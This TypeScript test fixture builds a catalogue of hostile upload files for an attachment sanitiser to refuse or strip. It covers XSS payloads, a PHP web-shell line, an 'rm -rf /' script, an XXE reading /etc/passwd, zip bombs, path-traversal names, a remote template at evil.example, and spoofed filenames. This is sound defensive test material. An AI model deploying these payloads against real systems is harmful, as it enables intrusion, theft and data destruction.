/** Hostile files, made here: whatever a file can pretend to be, hide, or do to who opens it. */
import { randomBytes } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import sharp from 'sharp'
import {
  compound,
  contentTypes,
  docx,
  heic,
  jpegWithGps,
  openDocument,
  pdf,
  picture,
  pngOfSize,
  wordStream,
  workbookStream,
  xlsx,
  zip
} from '../server/attachment-makers.ts'

export interface Hostile {
  readonly what: string
  readonly name: string
  readonly bytes: Buffer
  /** `refused`: nothing of it may be kept. `tamed`: it may, but without `secret` in what is handed out */
  readonly fate: 'refused' | 'tamed'
  readonly secret?: string
}

const text = (...lines: readonly string[]): Buffer => Buffer.from(lines.join('\n'))
const script = '<script>alert(document.domain)</script>'
const html = text('<!doctype html>', `<html><body>${script}</body></html>`)
const svg = text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`)
const eicar = text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')
  .toString()
  .replace('\n', '')

const refused = (what: string, name: string, bytes: Buffer): Hostile => ({ what, name, bytes, fate: 'refused' })
const tamed = (what: string, name: string, bytes: Buffer, secret?: string): Hostile => ({
  what,
  name,
  bytes,
  fate: 'tamed',
  ...(secret === undefined ? {} : { secret })
})

const programs = (): Hostile[] => [
  refused('HTML as a picture', '图.png', html),
  refused('HTML as a PDF', '文件.pdf', html),
  refused('HTML in UTF-16', '图.jpg', Buffer.from(`\uFEFF${html.toString()}`, 'utf16le')),
  refused(
    'XHTML',
    '图.png',
    text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">', script, '</html>')
  ),
  refused('SVG as a picture', '图.png', svg),
  refused('SVG', '图.svg', svg),
  refused('SVG, packed', '图.svgz', gzipSync(svg)),
  refused('a script', '图.jpg', text('alert(1)')),
  refused('a server page', '图.php.jpg', text('<?php system($_GET["c"]); ?>')),
  refused('a Windows program', '报表.pdf', Buffer.concat([text('MZ'), randomBytes(2000)])),
  refused('a Linux program', '报表.docx', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), randomBytes(2000)])),
  refused('a shell script', '说明.txt', text('#!/bin/sh', 'rm -rf /')),
  refused(
    'a shortcut',
    '报表.pdf.lnk',
    Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), randomBytes(200)])
  ),
  refused('the test file of virus scanners', 'eicar.txt', text(eicar)),
  refused('the same as a PDF', 'eicar.pdf', text(eicar)),
  refused(
    'XML that names a file of the server',
    '数据.xml',
    text('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
  ),
  refused('a web archive', '报告.doc', text('MIME-Version: 1.0', 'Content-Type: multipart/related', '', script)),
  refused('RTF with an object', '报告.doc', text('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}')),
  refused('WebAssembly', '图.png', Buffer.from('0061736d01000000', 'hex')),
  refused('a database', '数据.xlsx', Buffer.concat([text('SQLite format 3\0'), randomBytes(4000)])),
  refused('noise', '图.png', randomBytes(100_000)),
  refused('nothing', '图.png', Buffer.from([0]))
]

const archives = (): Hostile[] => [
  refused('a zip archive', '资料.zip', zip([{ name: 'a.txt', data: 'x' }])),
  refused(
    'a Java archive',
    '报表.docx',
    zip([
      { name: 'META-INF/MANIFEST.MF', data: 'Main-Class: A' },
      { name: 'A.class', data: 'x' }
    ])
  ),
  refused(
    'a book',
    '书.odt',
    zip([
      { name: 'mimetype', data: 'application/epub+zip', stored: true },
      { name: 'content.xml', data: '<x/>' }
    ])
  ),
  refused('gzip', '资料.pdf', gzipSync(Buffer.alloc(1000))),
  refused('7z', '资料.7z', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), randomBytes(500)])),
  refused(
    'a bomb of many zeros',
    '表.docx',
    docx(Array.from({ length: 6 }, (_, n) => ({ name: `word/media/${n}.xml`, data: Buffer.alloc(100_000_000) })))
  ),
  refused(
    'a bomb that says it is small',
    '表.docx',
    zip([{ name: '[Content_Types].xml', data: Buffer.alloc(200_000_000), claims: 100 }])
  ),
  refused('a bomb of shared entries', '表.docx', sharedEntries()),
  refused(
    'a bomb of many entries',
    '表.docx',
    docx(Array.from({ length: 12_000 }, (_, n) => ({ name: `word/${n}`, data: '' })))
  ),
  refused(
    'another name within than in the directory',
    '表.docx',
    docx([{ name: 'word/a.xml', ownName: 'word/b.exe', data: 'x' }])
  ),
  refused('names that lead out', '表.docx', docx([{ name: '../../../../etc/cron.d/x', data: 'x' }])),
  refused('names that lead out, in Windows', '表.docx', docx([{ name: '..\\..\\start.exe', data: 'x' }])),
  refused('half a document', '表.docx', docx().subarray(0, 300)),
  refused('something before a document', '表.docx', Buffer.concat([html, docx()])),
  refused('something behind a document', '表.docx', Buffer.concat([docx(), html]))
]

/** Two entries of the directory that point to the same bytes. */
function sharedEntries(): Buffer {
  const once = docx([
    { name: 'word/a.xml', data: Buffer.alloc(5_000_000) },
    { name: 'word/b.xml', data: 'b' }
  ])
  const [first, second] = [once.lastIndexOf('word/a.xml') - 46, once.lastIndexOf('word/b.xml') - 46]
  once.copy(once, second + 20, first + 20, first + 28)
  once.copy(once, second + 42, first + 42, first + 46)
  return once
}

const relation = (type: string, target: string): string =>
  `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`

const macros = 'application/vnd.ms-word.document.macroEnabled.main+xml'

const documents = (): Hostile[] => [
  refused(
    'a document with macros, called docx',
    '通知.docx',
    zip([
      { name: '[Content_Types].xml', data: contentTypes('word/document.xml', macros) },
      { name: 'word/document.xml', data: '<x/>' }
    ])
  ),
  refused('a document with a macro project', '通知.docx', docx([{ name: 'word/vbaProject.bin', data: 'x' }])),
  refused('a workbook with macro sheets', '表.xlsx', xlsx([{ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }])),
  refused('a document with active controls', '表.docx', docx([{ name: 'word/activeX/activeX1.bin', data: 'x' }])),
  refused(
    'a template from elsewhere',
    '表.docx',
    docx([{ name: 'word/_rels/settings.xml.rels', data: relation('attachedTemplate', 'https://evil.example/a.dotm') }])
  ),
  refused(
    'an object from elsewhere',
    '表.docx',
    docx([{ name: 'word/_rels/document.xml.rels', data: relation('oleObject', '\\\\10.0.0.1\\x') }])
  ),
  refused('an encrypted document', '密.docx', compound({ EncryptedPackage: randomBytes(5000) })),
  refused('an encrypted old document', '密.doc', compound({ WordDocument: wordStream(true) })),
  refused('an encrypted old workbook', '密.xls', compound({ Workbook: workbookStream(true) })),
  refused(
    'an old document with macros',
    '旧.doc',
    compound({ WordDocument: wordStream() }, ['Macros', '_VBA_PROJECT'])
  ),
  refused('an OpenDocument file with macros', '表.odt', openDocument('text', [{ name: 'Basic/x.xml', data: 'x' }])),
  refused(
    'an encrypted OpenDocument file',
    '表.odt',
    openDocument('text', [{ name: 'META-INF/manifest.xml', data: '<encryption-data/>' }])
  ),
  refused('an encrypted PDF', '密.pdf', pdf('/Encrypt << /Filter /Standard >> ')),
  refused('half a PDF', '半.pdf', pdf().subarray(0, 100)),
  refused('a PDF with something before it', '图.pdf', Buffer.concat([html, pdf()])),
  refused('a PDF that is an archive too', '双.pdf', Buffer.concat([pdf(), zip([{ name: 'a.exe', data: 'MZ' }])])),
  tamed('a PDF with a script', '脚本.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> '))
]

const pictures = async (): Promise<Hostile[]> => {
  const png = await picture('png')
  const jpeg = await picture('jpeg')
  const comment = Buffer.from(`fffe${(script.length + 2).toString(16).padStart(4, '0')}`, 'hex')
  return [
    refused('a picture of ten thousand million points', '大.png', pngOfSize(100_000, 100_000)),
    refused('a picture of four hundred million points', '大.png', pngOfSize(20_000, 20_000)),
    refused('a picture without its points', '空.png', pngOfSize(5000, 5000)),
    refused(
      'a GIF as large as can be said',
      '大.gif',
      Buffer.concat([
        text('GIF89a'),
        Buffer.from('ffffffff800000', 'hex'),
        Buffer.alloc(6),
        Buffer.from('2c00000000ffffffff000201003b', 'hex')
      ])
    ),
    refused('a GIF that is a script', '图.gif', text('GIF89a/*', '*/=1;alert(1)//')),
    refused('half a JPEG', '半.jpg', jpeg.subarray(0, jpeg.length / 2)),
    refused('half a PNG', '半.png', png.subarray(0, png.length - 40)),
    refused('half a WebP', '半.webp', (await picture('webp')).subarray(0, 60)),
    refused('half an HEIC', '半.heic', heic.subarray(0, heic.length / 2)),
    refused('TIFF', '图.tiff', await picture('tiff')),
    refused('AVIF', '图.avif', await picture('avif')),
    refused('BMP', '图.bmp', Buffer.concat([text('BM'), Buffer.alloc(200)])),
    refused('an icon', '图.ico', Buffer.concat([Buffer.from('000001000100', 'hex'), Buffer.alloc(200)])),
    tamed(
      'a JPEG with an archive behind it',
      '图.jpg',
      Buffer.concat([jpeg, zip([{ name: 'a.exe', data: 'MZ' }])]),
      'a.exe'
    ),
    tamed('a PNG with a page behind it', '图.png', Buffer.concat([png, html]), 'alert('),
    tamed(
      'a JPEG with a script in a comment',
      '图.jpg',
      Buffer.concat([jpeg.subarray(0, 2), comment, text(script), jpeg.subarray(2)]),
      'alert('
    ),
    tamed('a picture that says where it was taken', '图.jpg', await jpegWithGps(), 'Secret Camera'),
    tamed(
      'a picture with a script in its rights',
      '图.jpg',
      await sharp(jpeg)
        .withExif({ IFD0: { Copyright: script } })
        .jpeg()
        .toBuffer(),
      'alert('
    ),
    tamed(
      'a profile with a script',
      '图.png',
      Buffer.concat([png.subarray(0, 33), textChunk(script), png.subarray(33)]),
      'alert('
    )
  ]
}

/** A tEXt chunk of PNG; its checksum is left out, as decoders pass over what they don't need. */
function textChunk(content: string): Buffer {
  const data = text(`Comment\0${content}`)
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return Buffer.concat([length, text('tEXt'), data, Buffer.alloc(4)])
}

/** Good content under names that would do harm if anybody believed them. */
const names = (): Hostile[] =>
  [
    '../../../../etc/passwd',
    '..\\..\\windows\\system32\\calc.exe',
    '/etc/cron.d/x',
    'C:\\start.exe',
    '报表\u202Efdp.exe',
    '报表\u2066gpj.scr\u2069',
    '图.png.exe',
    '图.exe        .pdf',
    '.htaccess',
    'CON',
    '....//....//x',
    '<img src=x onerror=alert(1)>.pdf',
    '"; filename=evil.html; x="',
    '%0d%0aSet-Cookie: a=b',
    '%2e%2e%2fx.html',
    '名\u0007字\u200B.pdf',
    '长'.repeat(120)
  ].map((name) => tamed(`a document called ${JSON.stringify(name).slice(0, 40)}`, name, docx()))

/** All of them. */
export const hostileFiles = async (): Promise<Hostile[]> => [
  ...programs(),
  ...archives(),
  ...documents(),
  ...(await pictures()),
  ...names()
]
